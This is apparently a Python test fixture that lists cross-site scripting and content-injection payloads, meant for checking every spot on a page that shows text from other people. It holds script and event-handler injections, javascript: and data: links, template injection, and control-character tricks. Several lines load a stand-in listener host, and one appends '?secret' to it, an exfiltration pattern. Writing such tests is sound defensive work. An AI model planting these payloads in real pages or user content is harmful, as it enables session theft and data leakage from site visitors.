"""What attacks a page, for every place that shows text of others."""

EVIL = "http://listener.test/x.png"
PAYLOADS = [
    "<script>alert(1)</script>",
    f"<img src={EVIL} onerror=alert(1)>",
    f"![a]({EVIL}?secret)",
    f"[click](javascript:alert(1)) [b]({EVIL})",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    f"<svg><image href='{EVIL}'/><foreignObject><iframe src={EVIL}></foreignObject></svg>",
    f"<iframe srcdoc='<script>alert(1)</script>'></iframe><object data={EVIL}>",
    "</code></pre><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    f"<link rel=stylesheet href={EVIL}><style>@import '{EVIL}';</style>",
    f"<style>body{{background:url({EVIL})}}</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href={EVIL}>",
    "<details open ontoggle=alert(1)>",
    "<form action=javascript:alert(1)><button autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$ {{constructor.constructor('alert(1)')()}}",
    "\u202edrowssap\u202c \u200b\x1b[31m\x00 \x1b]0;x\x07",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "<!--<script>alert(1)//--><![CDATA[<script>alert(1)</script>]]>",
    f"<video src={EVIL} autoplay><audio src={EVIL}><embed src={EVIL}>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
]
